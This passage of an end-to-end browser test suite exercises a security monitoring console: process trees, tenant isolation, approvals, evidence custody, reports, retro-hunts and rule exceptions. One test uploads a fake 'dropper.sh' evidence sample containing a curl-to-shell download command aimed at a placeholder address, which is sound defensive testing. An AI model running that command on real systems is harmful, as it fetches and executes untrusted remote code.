  // on a 1366×768 laptop the administrator's whole navigation fits, nothing scrolls sideways
  await page.setViewportSize({ width: 1366, height: 768 });
  const links = page.getByRole('navigation', { name: 'Main' }).getByRole('link');
  assert.ok(await links.count() >= 15);
  for (const l of await links.all()) {
    const b = await l.boundingBox();
    assert.ok(b && b.y + b.height <= 768 && b.x + b.width <= 1366, `${await l.textContent()} is on the screen`);
  }
  assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= 1366), 'no horizontal scrolling');
  await shot('laptop-search');
  await page.setViewportSize({ width: 1400, height: 900 });
});

// ---- issue 7's remaining browser tests (after the steps that count the provider's events, since a
// real agent adds many): a real agent's process tree, tenant isolation for a
// customer viewer, settings and the provider overview, a customer approver approving an action,
// incident evidence and audit history, reports ------------------------------------------------

const AGENT_BIN = findAgent();
const RUN_ID = crypto.randomBytes(4).toString('hex');

/** Polls fn (async) until it returns a truthy value; throws after ms with what. */
async function until(fn, what, ms = 30000, every = 300) {
  const deadline = Date.now() + ms;
  let last;
  while (Date.now() < deadline) {
    last = await fn();
    if (last) return last;
    await new Promise((r) => setTimeout(r, every));
  }
  throw new Error(`timed out waiting for ${what} (last: ${JSON.stringify(last)})`);
}

/** Adds a Sigma rule (YAML) through the API and waits until the engine has loaded it. */
async function addRule(call, yaml) {
  const r = await request(stack.api, 'POST', '/api/v1/rules', { body: yaml, headers: await call.headers({ 'Content-Type': 'application/yaml' }) });
  assert.equal(r.status, 201, r.text);
  const id = /^id: (\S+)$/m.exec(yaml)[1];
  await until(async () => {
    const l = (await call('GET', '/api/v1/rules')).json;
    return !l.engine.pending && l.rules.some((x) => x.id === id && x.loaded);
  }, 'the rule to load', 15000, 100);
}

/** A new browser context and page logged in as who; close with p.context().close(). */
async function loginAs(who, landing = 'Overview') {
  const ctx = await browser.newContext({ ignoreHTTPSErrors: true, viewport: { width: 1366, height: 768 }, acceptDownloads: true });
  const p = await newPage(ctx);
  await p.goto(stack.base + '/');
  await p.getByRole('heading', { name: 'Log in to Vigil' }).waitFor();
  await login(p, who, landing);
  return p;
}

/** Events of a query (admin's view) over the last hour. */
async function findEvents(call, q) {
  const u = '/api/v1/events?' + new URLSearchParams({ q, from: new Date(Date.now() - 3600e3).toISOString(),
    to: new Date(Date.now() + 60e3).toISOString(), limit: '200' });
  const r = await call('GET', u);
  assert.equal(r.status, 200, r.text);
  return r.json.events;
}

step('the process tree renders for a real agent\'s process with its file and network events', async () => {
  if (process.getuid?.() !== 0) {
    console.log('     (skipped: the agent\'s eBPF sensors need root; run the suite as root)');
    return;
  }
  if (!AGENT_BIN) {
    console.log('     (skipped: no vigil-agent binary; set VIGIL_AGENT or build the vigil-agent target)');
    return;
  }
  const call = await apiClient(stack.api, ADMIN.user, ADMIN.pass);
  const agent = new Agent(stack, AGENT_BIN);
  const watch = fs.mkdtempSync(path.join(os.tmpdir(), 'vigil-console-watch-'));
  try {
    await agent.start(call, 'default', ['--watch', watch + '/', '--no-actions']);
    const id = await until(() => { try { return agent.identity(); } catch { return null; } }, 'the agent to enrol', 30000);
    await until(async () => (await call('GET', `/api/v1/agents/${id}`)).json?.status === 'online', 'the agent online', 30000);
    await until(() => agent.out.includes('sensors running'), 'the agent\'s sensors (its log says "sensors running")', 60000);
    // a recognisable tree: bash (marker) -> bash, which writes a file in the watched directory,
    // connects to vigild's port and runs sleep and cat. Retried while the sensors attach.
    let marker = '';
    let inner = null;
    let outer = null;
    for (let attempt = 0; attempt < 4 && !inner; attempt++) {
      marker = `vigilcontree${RUN_ID}x${attempt}`;
      const script = `sleep 1; echo x > ${watch}/${marker}.txt; exec 3<>/dev/tcp/127.0.0.1/${stack.port}; exec 3>&-; ` +
        'cat /etc/hostname >/dev/null; sleep 0.2; exit 0';
      childProcess.spawnSync('bash', ['-c', `: ${marker}; bash -c '${script}'; true`], { stdio: 'ignore' });
      const q = `process.command_line:*${marker}* and event.category:process`;
      try {
        await until(async () => {
          const evs = await findEvents(call, q);
          outer = evs.find((e) => e.process.command_line.startsWith(`bash -c : ${marker}`)) ?? null;
          inner = evs.find((e) => e.process.command_line.startsWith('bash -c sleep 1')) ?? null;
          // both shells and the file and network events of the inner one arrive
          if (!inner || !outer) return false;
          const act = await findEvents(call, `process.entity_id:"${inner.process.entity_id}" and not event.category:process`);
          return act.some((e) => e.event.category === 'file') && act.some((e) => e.event.category === 'network');
        }, `the events of ${marker}`, 15000, 500);
      } catch (e) {
        if (attempt === 3) throw e;
        inner = null; // e.g. the sensors attached while this tree ran: another one
      }
    }
    assert.ok(outer, 'the outer shell\'s exec event');
    const at = encodeURIComponent(inner['@timestamp']);
    await page.goto(stack.base + `/process?entity=${inner.process.entity_id}&at=${at}`);
    await page.getByRole('heading', { name: 'Process tree' }).waitFor();
    const tree = page.getByRole('tree', { name: 'Process tree' });
    // the ancestor: the outer shell with its command line
    const anc = tree.getByRole('list', { name: 'Ancestors' });
    await anc.getByText(`bash -c : ${marker}`, { exact: false }).waitFor();
    // and this test's node process, started before the agent: known from its child's parent fields
    await anc.getByText(`pid ${process.pid}`, { exact: true }).waitFor();
    // the process itself, opened: its file and network activity
    const actList = tree.getByRole('list', { name: `Activity of pid ${inner.process.pid}` });
    await actList.getByText(`creation ${watch}/${marker}.txt`).waitFor();
    await actList.getByText(new RegExp(`connection_attempted tcp .*→ 127\\.0\\.0\\.1:${stack.port}`)).waitFor();
    // its children: sleep and cat, expandable
    await tree.getByRole('button', { name: /^Expand sleep \(pid \d+\)/ }).first().waitFor();
    await tree.getByRole('button', { name: /^Expand cat \(pid \d+\)/ }).click();
    await tree.getByText('no child processes').first().waitFor();
    await shot('process-tree-agent');
    // focus on the ancestor: the inner shell is now its child
    await anc.getByRole('link', { name: 'focus' }).last().click();
    await page.waitForURL(new RegExp(`entity=${outer.process.entity_id}`));
    await tree.getByRole('button', { name: /^Expand bash \(pid \d+\)/ }).waitFor();
  } finally {
    const log = await agent.stop();
    fs.rmSync(watch, { recursive: true, force: true });
    if (/AddressSanitizer|LeakSanitizer|runtime error:/.test(log)) throw new Error('sanitizer report in the agent log:\n' + log.slice(-4000));
  }
});

const VIEWER = { user: 'viewer-a', pass: 'viewer-a-password' };
const TENANT_A = 'cust-a';
const TENANT_B = 'cust-b';
const B_SECRET = 'host-b-secret';
const seenB = { incident: 0, alert: 0 };

step('a customer viewer sees their tenant\'s data and never another tenant\'s', async () => {
  const call = await apiClient(stack.api, ADMIN.user, ADMIN.pass);
  // a provider rule: it applies to every tenant
  await addRule(call, ['title: Console tenant isolation marker', 'id: 3c1d9e2a-6b4f-4e8d-a1c7-5f0e9d8b7a61', 'status: test', 'level: high',
    'logsource: {product: linux, category: process_creation}', 'detection:', '  sel:', '    CommandLine|contains: vigil-console-tenant',
    '  condition: sel', ''].join('\n'));
  for (const [t, name] of [[TENANT_A, 'Customer A'], [TENANT_B, 'Customer B']])
    assert.equal((await call('POST', '/api/v1/tenants', { id: t, name, mode: 'full', retention_days: 30 })).status, 201);
  // events in both tenants; the marker rule (provider tenant: applies to all) raises an alert in each
  for (const [t, host] of [[TENANT_A, 'host-a-visible'], [TENANT_B, B_SECRET]]) {
    const tok = await call('POST', '/api/v1/tokens', { name: 'ingest-' + t, role: 'ingest', tenant: t });
    assert.ok(tok.status === 200 || tok.status === 201, tok.text);
    const ev = { '@timestamp': new Date().toISOString(), agent: { id: crypto.randomBytes(16).toString('hex') }, host: { name: host }, event: { category: 'process', type: 'start', action: 'exec' },
      process: { entity_id: crypto.randomBytes(16).toString('hex'), pid: 4242, name: 'curl', executable: '/usr/bin/curl',
        command_line: `curl http://198.51.100.9/vigil-console-tenant-${t}` }, source: { ip: t === TENANT_A ? '10.9.9.1' : '10.66.66.66' },
      message: `tenant ${t} event` };
    const r = await request(stack.api, 'POST', '/api/v1/events', { body: JSON.stringify(ev) + '\n',
      headers: { Authorization: `Bearer ${tok.json.token}`, 'Content-Type': 'application/x-ndjson' } });
    assert.equal(r.json.accepted, 1, r.text);
    const inc = await call('POST', '/api/v1/incidents', { title: `Incident of ${host}`, tenant: t, severity: 'high' });
    assert.equal(inc.status, 201, inc.text);
    if (t === TENANT_B) seenB.incident = inc.json.id;
  }
  const alertB = await until(async () => (await call('GET', `/api/v1/alerts?status=&limit=1000`)).json.alerts.find((a) => a.tenant === TENANT_B),
    'tenant B\'s alert');
  seenB.alert = alertB.id;
  await until(async () => (await call('GET', '/api/v1/alerts?status=&limit=1000')).json.alerts.some((a) => a.tenant === TENANT_A), 'tenant A\'s alert');
  const u = await call('POST', '/api/v1/users', { username: VIEWER.user, password: VIEWER.pass, role: 'customer_viewer', tenant: TENANT_A });
  assert.equal(u.status, 201, u.text);

  const p = await loginAs(VIEWER);
  try {
    const noB = async (where) => {
      const text = await p.locator('body').innerText();
      for (const bad of [B_SECRET, TENANT_B, '10.66.66.66', 'Customer B'])
        assert.ok(!text.includes(bad), `${where} shows ${bad} of the other tenant`);
    };
    // the role-limited navigation: no administration, no approvals
    const nav = p.getByRole('navigation', { name: 'Main' });
    for (const l of ['Overview', 'Alerts', 'Incidents', 'Search', 'Agents'])
      await nav.getByRole('link', { name: l, exact: true }).waitFor();
    for (const l of ['Users', 'API tokens', 'Audit log', 'Notifications', 'Approvals'])
      assert.equal(await nav.getByRole('link', { name: l, exact: true }).count(), 0, `a customer viewer must not see ${l}`);
    // overview
    await p.getByRole('region', { name: 'Top hosts' }).getByRole('button', { name: 'host-a-visible' }).waitFor();
    await p.getByTestId('count-events').filter({ hasText: /^1$/ }).waitFor();
    await noB('the overview');
    await shot('customer-viewer', p);
    // alerts
    await p.goto(stack.base + '/alerts?status=all');
    await p.getByRole('table', { name: 'Alerts' }).getByRole('cell', { name: 'host-a-visible' }).first().waitFor();
    await noB('the alert queue');
    // incidents
    await p.goto(stack.base + '/incidents?status=all');
    await p.getByRole('table', { name: 'Incidents' }).getByRole('link', { name: 'Incident of host-a-visible' }).waitFor();
    await noB('the incident list');
    // search: everything the viewer may search is tenant A's
    await p.goto(stack.base + '/search?range=24h');
    await p.getByTestId('result-count').filter({ hasText: /^1 matching event/ }).waitFor();
    await noB('the search');
    await p.goto(stack.base + '/search?range=24h&q=' + encodeURIComponent(`host.name:${B_SECRET}`));
    await p.getByTestId('result-count').filter({ hasText: /^0 matching events/ }).waitFor();
    // agents: the provider's agents (and B's) are not listed
    await p.goto(stack.base + '/agents');
    await p.getByRole('heading', { name: 'Agents' }).waitFor();
    await p.getByText(/No agent has enrolled yet/).waitFor();
    await noB('the agents list');
    // deep links to B's objects: not found, like missing ones
    await p.goto(stack.base + `/incident?id=${seenB.incident}`);
    await p.getByRole('alert').filter({ hasText: /not found/i }).waitFor();
    await noB('B\'s incident link');
    await p.goto(stack.base + `/alert?id=${seenB.alert}`);
    await p.getByRole('alert').filter({ hasText: /not found/i }).waitFor();
    await noB('B\'s alert link');
    await p.goto(stack.base + '/users');
    await p.getByText(/may not open Users/).waitFor();
  } finally {
    await p.context().close();
  }
});

const SEMI = 'cust-semi';
const RESPONDER = { user: 'responder', pass: 'responder-password' };
const APPROVER = { user: 'approver-semi', pass: 'approver-semi-password' };
const semi = { incident: 0, agent: '', approved: false };

step('tenant settings (mode, timeout, pre-approvals, contacts, hours) and the provider overview', async () => {
  const call = await apiClient(stack.api, ADMIN.user, ADMIN.pass);
  assert.equal((await call('POST', '/api/v1/tenants', { id: SEMI, name: 'Customer Semi', mode: 'full', retention_days: 30 })).status, 201);
  await page.goto(stack.base + '/tenants');
  const ov = page.getByRole('table', { name: 'Provider overview' });
  await ov.getByTestId('overview-default').waitFor();
  await ov.getByTestId(`overview-${SEMI}`).getByRole('cell', { name: 'full' }).waitFor();
  await shot('provider-overview');
  await page.getByRole('link', { name: 'Settings of Customer Semi' }).click();
  await page.getByRole('heading', { name: `Settings of tenant ${SEMI}` }).waitFor();
  const form = page.getByRole('form', { name: 'Tenant settings' });
  await form.getByLabel('Mode').selectOption('semi');
  await form.getByLabel('Approval timeout (s)').fill('1800');
  await form.getByRole('checkbox', { name: 'collect' }).check();
  await form.getByLabel('Time zone').fill('Europe/Berlin');
  await form.getByLabel('Start').fill('08:00');
  await form.getByLabel('End').fill('18:00');
  for (const d of ['mon', 'tue', 'wed', 'thu', 'fri']) await form.getByRole('checkbox', { name: d, exact: true }).check();
  await form.getByRole('button', { name: 'Add contact' }).click();
  await form.getByLabel('Contact 1 name').fill('Dana Duty');
  await form.getByLabel('Contact 1 email').fill('dana@semi.example');
  await form.getByLabel('Contact 1 role').fill('security lead');
  await form.getByRole('button', { name: 'Save settings' }).click();
  await page.getByTestId('settings-saved').waitFor();
  const s = (await call('GET', `/api/v1/tenants/${SEMI}/settings`)).json;
  assert.equal(s.mode, 'semi');
  assert.equal(s.approval_timeout_s, 1800);
  assert.deepEqual(s.preapproved, ['collect']);
  assert.equal(s.contacts[0].email, 'dana@semi.example');
  assert.equal(s.business_hours.start, '08:00');
  await shot('tenant-settings');
  // a reload shows what the server stored
  await page.reload();
  await until(async () => (await form.getByLabel('Contact 1 name').inputValue()) === 'Dana Duty', 'the stored contact after a reload');
});

step('a customer approver approves a pending action requested from an incident', async () => {
  if (!AGENT_BIN) {
    console.log('     (skipped: no vigil-agent binary to enrol; set VIGIL_AGENT or build the vigil-agent target)');
    return;
  }
  const call = await apiClient(stack.api, ADMIN.user, ADMIN.pass);
  for (const [u, role, tenant] of [[RESPONDER, 'tier2', 'default'], [APPROVER, 'customer_approver', SEMI]]) {
    const r = await call('POST', '/api/v1/users', { username: u.user, password: u.pass, role, tenant });
    assert.equal(r.status, 201, r.text);
  }
  // a real agent of the semi-managed tenant: enrolled (no sensors needed), its actions wait queued
  const agent = new Agent(stack, AGENT_BIN);
  semi.agent = await agent.enrollOnly(call, SEMI);
  await agent.stop();
  const inc = await call('POST', '/api/v1/incidents', { title: `Semi-managed incident ${RUN_ID}`, tenant: SEMI, severity: 'high' });
  assert.equal(inc.status, 201, inc.text);
  semi.incident = inc.json.id;

  const analyst = await loginAs(RESPONDER);
  const approver = await loginAs(APPROVER);
  try {
    // the analyst asks for a live query on the host from the incident page
    await analyst.goto(stack.base + `/incident?id=${semi.incident}`);
    const form = analyst.getByRole('form', { name: 'Request an action' });
    await form.getByLabel('Host', { exact: true }).selectOption(semi.agent);
    await form.getByLabel('Action', { exact: true }).selectOption('query');
    await form.getByLabel('Reason').fill('list the processes of the host');
    await form.getByRole('button', { name: 'Request action' }).click();
    const reqs = analyst.getByRole('list', { name: 'Response requests' });
    await reqs.getByText('pending_approval').waitFor();
    const list = (await call('GET', `/api/v1/incidents/${semi.incident}/actions`)).json.requests;
    assert.equal(list.length, 1);
    const id = list[0].id;
    assert.equal(list[0].status, 'pending_approval');
    assert.equal(list[0].action_id ?? null, null, 'nothing is queued before the approval');

    // the approver finds it in the inbox: incident link, host, action, requester, time left
    await approver.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Approvals' }).click();
    await approver.getByRole('heading', { name: 'Approvals' }).waitFor();
    const row = approver.getByTestId(`approval-${id}`);
    await row.getByRole('link', { name: `#${semi.incident}` }).waitFor();
    await row.getByText('query', { exact: true }).waitFor();
    await row.getByText(RESPONDER.user).waitFor();
    await approver.getByTestId(`time-left-${id}`).filter({ hasText: /^(\d+ h )?\d+ min .*left$/ }).waitFor();
    await shot('approvals', approver);
    await row.getByLabel(`Reason for request ${id}`).fill('approved by the customer');
    await row.getByRole('button', { name: `Approve request ${id}` }).click();
    await approver.getByText('No request is waiting for a decision').waitFor();
    await approver.getByLabel('Status').selectOption('all');
    await approver.getByTestId(`request-status-${id}`).filter({ hasText: 'queued' }).waitFor();
    // the analyst's incident page follows (refreshed every few seconds)
    await analyst.getByTestId(`request-status-${id}`).filter({ hasText: 'queued' }).waitFor({ timeout: 15000 });
    await analyst.getByRole('list', { name: 'Timeline' }).getByText('response.approve').waitFor();
    const after = (await call('GET', `/api/v1/incidents/${semi.incident}/actions`)).json.requests[0];
    assert.equal(after.status, 'queued');
    assert.equal(after.decided_by, APPROVER.user);
    assert.ok(after.action_id > 0, 'the fleet action was queued');
    semi.approved = true;
  } finally {
    await analyst.context().close();
    await approver.context().close();
  }
});

step('incident evidence (upload, SHA-256, download, custody, verify) and audit history', async () => {
  const call = await apiClient(stack.api, ADMIN.user, ADMIN.pass);
  let id = semi.incident;
  if (!id) id = (await call('POST', '/api/v1/incidents', { title: `Evidence incident ${RUN_ID}`, tenant: SEMI })).json.id;
  const content = Buffer.from(`suspicious script ${RUN_ID}\ncurl http://198.51.100.7/x | sh\n`);
  const sha = crypto.createHash('sha256').update(content).digest('hex');
  await page.goto(stack.base + `/incident?id=${id}`);
  const form = page.getByRole('form', { name: 'Upload evidence' });
  await form.getByLabel('File').setInputFiles({ name: 'dropper.sh', mimeType: 'text/x-shellscript', buffer: content });
  await form.getByLabel('Description').fill('found in /tmp');
  await form.getByRole('button', { name: 'Upload' }).click();
  const list = page.getByRole('list', { name: 'Evidence' });
  await list.getByText(sha).waitFor();
  const [dl] = await Promise.all([page.waitForEvent('download'), list.getByRole('link', { name: 'Download' }).click()]);
  const got = fs.readFileSync(await dl.path());
  assert.equal(crypto.createHash('sha256').update(got).digest('hex'), sha);
  await list.getByRole('button', { name: 'Custody log of dropper.sh' }).click();
  const custody = page.getByRole('table', { name: 'Custody of dropper.sh' });
  for (const step of ['acquired', 'attached', 'downloaded']) await custody.getByRole('cell', { name: step, exact: true }).first().waitFor();
  await list.getByRole('button', { name: 'Verify dropper.sh' }).click();
  await list.getByRole('status').filter({ hasText: /^Intact/ }).waitFor();
  await custody.getByRole('cell', { name: 'verified', exact: true }).waitFor();
  // the audit rows of this incident
  const audit = page.getByRole('region', { name: 'Audit history' });
  await audit.getByRole('button', { name: 'Reload' }).click();
  const rows = audit.getByRole('table', { name: 'Audit history' });
  await rows.getByRole('cell', { name: 'incident.create' }).waitFor();
  for (const a of ['evidence.acquired', 'evidence.verified']) await rows.getByRole('cell', { name: a }).waitFor();
  if (semi.approved) for (const a of ['response.request', 'response.approve']) await rows.getByRole('cell', { name: a }).waitFor();
  await shot('incident-response');
});

step('reports: define one, run it now with progress, download the file', async () => {
  const call = await apiClient(stack.api, ADMIN.user, ADMIN.pass);
  const name = `Incidents this week ${RUN_ID}`;
  const title = `Reported incident ${RUN_ID}`;
  assert.equal((await call('POST', '/api/v1/incidents', { title, severity: 'medium' })).status, 201);
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Reports' }).click();
  await page.getByRole('heading', { name: 'Reports' }).waitFor();
  const form = page.getByRole('region', { name: 'Define a report' });
  await form.getByLabel('Name').fill(name);
  await form.getByLabel('Kind').selectOption('incidents');
  await form.getByLabel('Format').selectOption('csv');
  await form.getByLabel('Period').selectOption('last_7d');
  await form.getByLabel('Schedule (UTC)').selectOption('weekly');
  await form.getByLabel('Recipients').fill('soc@example.com');
  await form.getByRole('button', { name: 'Add report' }).click();
  const defs = page.getByRole('table', { name: 'Report definitions' });
  await defs.getByRole('cell', { name, exact: true }).waitFor();
  await defs.getByRole('cell', { name: 'weekly mon 06:00' }).waitFor();
  await page.getByRole('button', { name: `Run ${name} now` }).click();
  const runs = page.getByRole('table', { name: 'Report runs' });
  const link = runs.getByRole('link', { name: new RegExp(`^Download ${name} run \\d+$`) });
  await link.waitFor({ timeout: 30000 });
  // the definition shows its last run once it is done
  await defs.getByRole('row').filter({ hasText: name }).getByText('done', { exact: true }).waitFor();
  await shot('reports');
  const [dl] = await Promise.all([page.waitForEvent('download'), link.click()]);
  const body = fs.readFileSync(await dl.path());
  const def = (await call('GET', '/api/v1/reports')).json.reports.find((r) => r.name === name);
  const run = (await call('GET', `/api/v1/report-runs?report_id=${def.id}`)).json.runs[0];
  assert.equal(run.status, 'done');
  assert.equal(crypto.createHash('sha256').update(body).digest('hex'), run.sha256);
  assert.equal(body.length, run.size);
  // the provider tenant's incident is in it, the customers' are not
  assert.match(body.toString('utf8'), new RegExp(title));
  assert.doesNotMatch(body.toString('utf8'), /host-b-secret|host-a-visible/);
});

step('retro-hunt: start one from the screen over past events, watch it finish, follow a hit into the search', async () => {
  const call = await apiClient(stack.api, ADMIN.user, ADMIN.pass);
  const marker = `hunt${RUN_ID}`;
  const tok = await call('POST', '/api/v1/tokens', { name: `hunt-ingest-${RUN_ID}`, role: 'ingest', tenant: 'default' });
  assert.ok(tok.status === 200 || tok.status === 201, tok.text);
  // three matches 1, 2 and 3 days ago, and one near miss, all older than anything live
  const ev = (days, cmd) => JSON.stringify({ '@timestamp': new Date(Date.now() - days * 86400e3).toISOString(),
    event: { category: 'process', type: 'start' }, agent: { id: 'hunt-agent' }, host: { name: `hunt-host-${days}` },
    process: { command_line: cmd }, message: `past event ${cmd}` });
  const r = await request(stack.api, 'POST', '/api/v1/events', {
    body: [ev(1, `sh -c ${marker}`), ev(2, `sh -c ${marker}`), ev(3, `sh -c ${marker}`), ev(2, `sh -c ${marker.slice(0, -1)}`)].join('\n') + '\n',
    headers: { Authorization: `Bearer ${tok.json.token}`, 'Content-Type': 'application/x-ndjson' } });
  assert.equal(r.json.accepted, 4, r.text);
  const title = `Console hunt ${RUN_ID}`;
  await page.getByRole('navigation', { name: 'Main' }).getByRole('list', { name: 'Investigate' })
    .getByRole('link', { name: 'Retro-hunts' }).click();
  await page.getByRole('heading', { name: 'Retro-hunts' }).waitFor();
  const form = page.getByRole('region', { name: 'Start a retro-hunt' });
  // the defaults: the last 7 days, a prefilled example, the provider's tenant select and the alert option
  const from = new Date(await form.getByLabel('From').inputValue());
  assert.ok(Math.abs(Date.now() - 7 * 86400e3 - from.getTime()) < 5 * 60e3, `default from ${from}`);
  assert.match(await form.getByLabel('Rule (Sigma YAML)').inputValue(), /^title: /);
  await form.getByLabel('Tenant').waitFor();
  await form.getByLabel('Also create alerts').waitFor();
  await form.getByLabel('Rule (Sigma YAML)').fill([`title: ${title}`, `id: ${crypto.randomUUID()}`, 'level: medium',
    'logsource: {product: linux, category: process_creation}', 'detection:', '  sel:', `    CommandLine|contains: '${marker}'`,
    '  condition: sel', ''].join('\n'));
  await form.getByRole('button', { name: 'Start' }).click();
  const row = page.getByRole('table', { name: 'Hunts' }).getByRole('row').filter({ hasText: title });
  // refreshed by the screen itself (no reload): done, 100 %, every match counted
  await row.getByText('done', { exact: true }).waitFor({ timeout: 20000 });
  await row.locator('.progress').filter({ hasText: /100 % · day \d+ of \d+ · 3 events scanned · 3 hits/ }).waitFor();
  assert.equal(await row.getByRole('button', { name: /^Cancel hunt/ }).count(), 0, 'no cancel on a finished hunt');
  await shot('hunts');
  await row.getByRole('link', { name: /^Hunt \d+$/ }).click();
  await page.getByRole('heading', { name: new RegExp(`^Hunt #\\d+: ${title}$`) }).waitFor();
  assert.match(page.url(), /\/hunt\?id=\d+$/);
  await page.getByTestId('hunt-hits').filter({ hasText: /^3$/ }).waitFor();
  await page.getByRole('progressbar', { name: /^Progress of hunt \d+$/ }).waitFor();
  assert.equal(await page.getByRole('progressbar', { name: /^Progress of hunt/ }).getAttribute('value'), '100');
  const hits = page.getByRole('list', { name: 'Hit events' }).getByRole('link');
  assert.equal(await hits.count(), 3);
  await shot('hunt');
  const huntUrl = page.url();
  await hits.first().click();
  await page.getByRole('heading', { name: 'Event search' }).waitFor();
  await page.getByTestId('result-count').filter({ hasText: /^1 matching events/ }).waitFor();
  await page.getByRole('table', { name: 'Events' }).getByText(`past event sh -c ${marker}`).waitFor();
  // "search these hits" finds all three and not the near miss
  await page.goto(huntUrl);
  await page.getByRole('link', { name: 'Search these hits' }).click();
  await page.getByTestId('result-count').filter({ hasText: /^3 matching events/ }).waitFor();
  // a stored rule, hunted with alerts: every hit becomes an alert
  const stored = `Stored hunt ${RUN_ID}`;
  await addRule(call, [`title: ${stored}`, `id: ${crypto.randomUUID()}`, 'status: test', 'level: medium',
    'logsource: {product: linux, category: process_creation}', 'detection:', '  sel:', `    CommandLine|contains: '${marker}'`,
    '  condition: sel', ''].join('\n'));
  await page.goto(stack.base + '/hunts');
  await form.getByRole('radio', { name: 'Stored rule' }).check();
  await form.getByRole('combobox', { name: /^Stored rule/ }).selectOption({ label: `${stored} (default)` });
  await form.getByLabel('Also create alerts').check();
  await form.getByRole('button', { name: 'Start' }).click();
  const row2 = page.getByRole('table', { name: 'Hunts' }).getByRole('row').filter({ hasText: stored });
  await row2.getByText('done', { exact: true }).waitFor({ timeout: 20000 });
  await row2.getByRole('link', { name: /^Hunt \d+$/ }).click();
  await page.getByText('3 created, 0 dropped by exceptions or suppressions').waitFor();
  const alerts = (await call('GET', '/api/v1/alerts?limit=1000')).json.alerts.filter((x) => x.title === stored);
  assert.equal(alerts.length, 3, JSON.stringify(alerts));
  // a hunt that does not exist (or is another tenant's) is "not found"
  await page.goto(stack.base + '/hunt?id=999999');
  await page.getByTestId('not-found').waitFor();
});

step('assets: add one as critical, change it to low; rule exceptions and suppressions on the rules screen', async () => {
  const call = await apiClient(stack.api, ADMIN.user, ADMIN.pass);
  const host = `db-crit-${RUN_ID}`;
  await page.getByRole('navigation', { name: 'Main' }).getByRole('list', { name: 'Investigate' })
    .getByRole('link', { name: 'Assets' }).click();
  await page.getByRole('heading', { name: 'Assets' }).waitFor();
  const form = page.getByRole('region', { name: 'Add an asset' });
  await form.getByLabel('Hostname').fill(host);
  await form.getByLabel('IP address').fill('10.9.8.7');
  await form.getByLabel('Criticality').selectOption('critical');
  await form.getByLabel('Owner').fill('dba team');
  await form.getByLabel('Tags').fill('pci, prod');
  await form.getByRole('button', { name: 'Add asset' }).click();
  const row = page.getByRole('table', { name: 'Assets' }).getByRole('row').filter({ hasText: host });
  await row.getByTestId('criticality').filter({ hasText: /^critical$/ }).waitFor();
  await row.getByRole('cell', { name: 'pci, prod' }).waitFor();
  await shot('assets');
  await page.getByLabel(`Criticality of ${host}`).selectOption('low');
  await row.getByTestId('criticality').filter({ hasText: /^low$/ }).waitFor();
  const asset = (await call('GET', '/api/v1/assets')).json.assets.find((a) => a.hostname === host);
  assert.equal(asset.criticality, 'low');
  assert.equal(asset.ip, '10.9.8.7');
  assert.deepEqual(asset.tags, ['pci', 'prod']);

  // a rule's exceptions: add one with two condition rows, see it listed and stored, delete it
  const ruleId = crypto.randomUUID();
  const title = `Policy rule ${RUN_ID}`;
  const rr = await request(stack.api, 'POST', '/api/v1/rules', { headers: await call.headers({ 'Content-Type': 'application/yaml' }),
    body: [`title: ${title}`, `id: ${ruleId}`, 'status: test', 'level: low', 'logsource: {product: linux, category: process_creation}',
      'detection:', '  sel:', `    CommandLine|contains: policy-${RUN_ID}`, '  condition: sel', ''].join('\n') });
  assert.equal(rr.status, 201, rr.text);
  await page.goto(stack.base + '/rules');
  await page.getByRole('button', { name: `Exceptions of ${title}` }).click();
  const exForm = page.getByRole('form', { name: `Add an exception to ${title}` });
  await exForm.getByLabel('Field 1').fill('host.name');
  await exForm.getByLabel('Value 1').fill('scanner-*');
  await exForm.getByRole('button', { name: 'Add condition' }).click();
  await exForm.getByLabel('Field 2').fill('user.name');
  await exForm.getByLabel('Value 2').fill('nessus');
  await exForm.getByLabel('Reason').fill('authorised scanner');
  await exForm.getByRole('button', { name: 'Add exception' }).click();
  const exTable = page.getByRole('table', { name: `Exceptions of ${title}` });
  await exTable.getByRole('cell', { name: 'authorised scanner' }).waitFor();
  await exTable.getByText('host.name = scanner-* and user.name = nessus').waitFor();
  const exs = (await call('GET', `/api/v1/rules/${ruleId}/exceptions`)).json.exceptions;
  assert.equal(exs.length, 1);
  assert.deepEqual(exs[0].conditions, { 'host.name': ['scanner-*'], 'user.name': ['nessus'] });
  assert.equal(exs[0].created_by, ADMIN.user);
  await exTable.getByRole('button', { name: `Delete exception ${exs[0].id}` }).click();
  await page.getByRole('region', { name: `Exceptions of ${title}` }).getByText('No exceptions for this rule').waitFor();
  assert.equal((await call('GET', `/api/v1/rules/${ruleId}/exceptions`)).json.count, 0);

  // a suppression for that rule: add it, see it active, end it
  const reason = `maintenance ${RUN_ID}`;
  const sup = page.getByRole('form', { name: 'Add a suppression' });
  await sup.getByLabel('Rule').selectOption(ruleId);
  await sup.getByLabel('Value 1').fill(host);
  await sup.getByLabel('Reason').fill(reason);
  await sup.getByRole('button', { name: 'Add suppression' }).click();
  const srow = page.getByRole('table', { name: 'Active suppressions' }).getByRole('row').filter({ hasText: reason });
  await srow.waitFor();
  const s = (await call('GET', '/api/v1/suppressions')).json.suppressions.find((x) => x.reason === reason);
  assert.equal(s.rule_id, ruleId);
  assert.deepEqual(s.conditions, { 'host.name': [host] });
  const left = Date.parse(s.until) - Date.now();
  assert.ok(left > 50 * 60e3 && left <= 61 * 60e3, `until about an hour ahead: ${s.until}`);
  await srow.getByRole('button', { name: `End suppression ${s.id}` }).click();
  await srow.waitFor({ state: 'detached' });
  assert.ok(!(await call('GET', '/api/v1/suppressions')).json.suppressions.some((x) => x.id === s.id));
  await shot('rules-policy');
});

step('built-in rules: listed read-only with a badge, filtered by source; an exception added from the UI', async () => {
  const call = await apiClient(stack.api, ADMIN.user, ADMIN.pass);
  const { id, title, file } = BUILTIN_RULE;
  await page.goto(stack.base + '/rules');
  await page.getByRole('heading', { name: 'Rules', exact: true }).waitFor();
  const row = page.getByTestId(`builtin-${id}`);
  await row.getByText('built-in', { exact: true }).waitFor();
  await row.getByRole('cell', { name: file }).waitFor();
  assert.ok(await row.getByRole('checkbox', { name: `Enabled: ${title}` }).isDisabled(), 'no enable switch for a built-in rule');
  // the source filter asks the server for the built-in rules only
  await page.getByLabel('Source').selectOption('builtin');
  await until(async () => (await page.getByRole('table', { name: 'Rules' }).locator('tbody > tr').count()) === 1,
    'only the built-in rule listed', 10000, 100);
  const listed = (await call('GET', '/api/v1/rules?source=builtin')).json;
